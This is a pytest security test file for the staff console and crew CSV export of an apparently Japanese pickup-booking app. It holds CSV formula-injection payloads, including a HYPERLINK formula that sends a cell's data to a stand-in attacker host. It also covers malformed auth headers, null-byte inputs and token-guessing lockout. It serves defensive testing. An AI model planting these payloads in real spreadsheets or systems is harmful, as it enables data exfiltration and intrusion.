"""Attacks on the staff console (/staff) and the crews' CSV (issue 11: findings 5, 6, 10 and 13): other sign-in
schemes, undecodable credentials, token guessing, out-of-range form values on SQLite and PostgreSQL, and formulas
smuggled into the CSV. Real Flask app, real databases."""

from __future__ import annotations

import base64
import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest

from bot import cli
from bot.csvsafe import FORMULA_STARTS
from bot.store.migrate import upgrade
from services.booking.config import load_config
from services.booking.fees import load_table
from services.booking.models import PickupCapacity
from services.booking.service import BookingStore, Draft
from tests.support.area_support import add_areas

NOW = datetime(2026, 11, 20, 10, 0, tzinfo=ZoneInfo("Asia/Tokyo"))
TOKEN = "staff-test-token-0123456789"
FORMULAS = ('=HYPERLINK("http://evil.example/?p="&F3,"詳細")', "-ROW()", "+1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1")


@pytest.fixture
def extra_env() -> dict[str, str]:
    return {"BOT_STAFF_TOKEN": TOKEN}


@pytest.fixture
def areas(bot_env):
    upgrade(bot_env.database_url)
    add_areas(bot_env.database_url, "泉野", "浅野")


def basic(password: str = TOKEN) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"staff:{password}".encode()).decode()}


def csrf_of(page: str) -> str:
    return page.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]


# -- finding 13 and 10: only Basic or Bearer, and nothing undecodable gives a 500 ----------------------------------
@pytest.mark.parametrize(
    "header",
    [
        f"Token {TOKEN}",
        f"Digest username=staff, response={TOKEN}",
        f"Negotiate {TOKEN}",
        f"{TOKEN}",
        "Basic あ",
        "Basic !!!not-base64!!!",
        "Basic " + base64.b64encode(b"no-colon").decode(),
        "Basic " + base64.b64encode(b"staff:\xff\xfe").decode(),
        "Basic",
        "Bearer",
        "Bearer " + "x" * 10_000,
    ],
)
def test_other_schemes_and_broken_credentials_get_401_never_500(client, areas, header):
    response = client.get("/staff/", headers={"Authorization": header.encode().decode("latin-1")})
    assert response.status_code == 401 and response.headers["WWW-Authenticate"].startswith("Basic ")
    assert "サインイン" in response.get_data(as_text=True)


def test_basic_and_bearer_with_the_token_get_in(client, areas):
    assert client.get("/staff/", headers=basic()).status_code == 200
    assert client.get("/staff/", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200


# -- finding 6: staff token guessing is throttled per client address -------------------------------------------------
def test_token_guessing_is_locked_out_per_client_address(client, areas):
    other = {"REMOTE_ADDR": "192.0.2.77"}
    for _ in range(3):  # a browser's first, credential-less request is no failed sign-in
        assert client.get("/staff/").status_code == 401
    for guess in range(10):
        assert client.get("/staff/", headers=basic(f"guess-{guess}")).status_code == 401
    locked = client.get("/staff/", headers=basic())  # the right token, but from the guessing address
    assert locked.status_code == 429 and int(locked.headers["Retry-After"]) > 0
    assert client.get("/staff/", headers=basic(), environ_base=other).status_code == 200


# -- finding 13 and 10: the capacity form and the pages take known areas, bounded dates and capacities -----------
BAD_FORMS = [
    ({"area": "泉" * 101}, "その名前の地区はありません"),
    ({"area": "泉野\x00"}, "その名前の地区はありません"),
    ({"area": "存在しない地区"}, "その名前の地区はありません"),
    ({"area": ""}, "その名前の地区はありません"),
    ({"capacity": str(2**31)}, "0から1000までの整数"),
    ({"capacity": "1001"}, "0から1000までの整数"),
    ({"capacity": "-1"}, "0から1000までの整数"),
    ({"capacity": "abc"}, "0から1000までの整数"),
    ({"capacity": "１０"}, "0から1000までの整数"),
    ({"capacity": "1_0"}, "0から1000までの整数"),
    ({"capacity": "1e3"}, "0から1000までの整数"),
    ({"date": "0001-01-01"}, "1年前から2年先まで"),
    ({"date": "9999-12-31"}, "1年前から2年先まで"),
    ({"date": "2028-11-21"}, "1年前から2年先まで"),
    ({"date": "2026-13-01"}, "2026-11-25"),
    ({"date": "2026-11-25\x00"}, "2026-11-25"),
]


def attack_the_capacity_form(client) -> None:
    page = client.get("/staff/?date=2026-11-25", headers=basic()).get_data(as_text=True)
    good = {"area": "泉野", "date": "2026-11-25", "capacity": "5", "csrf_token": csrf_of(page)}
    for change, message in BAD_FORMS:
        response = client.post("/staff/capacity", data={**good, **change}, headers=basic())
        assert response.status_code == 400, change
        assert message in response.get_data(as_text=True), change
    for query in ("?area=" + "泉" * 101, "?area=%00", "?date=0001-01-01", "?date=2026-11-25&area=%E6%B3%89%00"):
        assert client.get("/staff/" + query, headers=basic()).status_code == 400, query
        assert client.get("/staff/export.csv" + query, headers=basic()).status_code == 400, query
    mark = {"status": "collected", "csrf_token": good["csrf_token"], "area": "泉" * 101}
    assert client.post("/staff/bookings/SD-ABCD-EFGH/mark", data=mark, headers=basic()).status_code == 400
    assert client.post("/staff/capacity", data=good, headers=basic()).status_code == 302
    for places in (str(2**31), "1001", "-1"):  # `bot booking capacity` takes the same range
        argv = ["booking", "capacity", "--area", "泉野", "--date", "2026-11-25", "--set", places]
        assert cli.main(argv) == 2


def test_the_capacity_form_refuses_what_it_cannot_take_on_sqlite(client, areas, settings):
    attack_the_capacity_form(client)
    assert BookingStore(settings.database_url, load_config(settings.data_dir)).day_capacity(date(2026, 11, 25)) == [
        ("泉野", 5, 0)
    ]


def test_the_capacity_form_refuses_what_it_cannot_take_on_postgresql(bot_env, pg_url, monkeypatch):
    from bot.engine import Engine
    from bot.store.db import session_factory
    from connectors import create_app

    monkeypatch.setenv("BOT_DATABASE_URL", pg_url)
    settings = bot_env.with_(database_url=pg_url)
    upgrade(pg_url)
    add_areas(pg_url, "泉野", "浅野")
    engine = Engine(settings)
    try:
        attack_the_capacity_form(create_app(settings, engine=engine).test_client())
    finally:
        engine.close()
    with session_factory(pg_url)() as s:
        assert [(r.area, r.capacity) for r in s.query(PickupCapacity)] == [("泉野", 5)]


# -- finding 5: formulas typed by citizens never run in the crews' spreadsheet ---------------------------------------
def test_the_crews_csv_neutralises_formulas_and_quotes_every_field(client, areas, settings, tmp_path):
    store = BookingStore(settings.database_url, load_config(settings.data_dir))
    fees = load_table(settings.data_dir, settings.database_url)
    for i, formula in enumerate(FORMULAS):
        draft = Draft(
            "泉野", formula, formula, "09012345678", date(2026, 11, 25), (("sofa", 1),), "sticker", "rest", f"s{i}"
        )
        store.reserve(draft, NOW, fees)
    web = client.get("/staff/export.csv?date=2026-11-25", headers=basic()).get_data(as_text=True).lstrip("\ufeff")
    assert cli.main(["booking", "export", "--date", "2026-11-25", "--out", str(tmp_path / "crews.csv")]) == 0
    for text in (web, (tmp_path / "crews.csv").read_bytes().decode("utf-8-sig")):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + len(FORMULAS)
        assert sorted((row[3], row[4]) for row in rows[1:]) == sorted(("'" + f, "'" + f) for f in FORMULAS)
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        quoted = io.StringIO()
        csv.writer(quoted, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
        assert text == quoted.getvalue()  # every field quoted
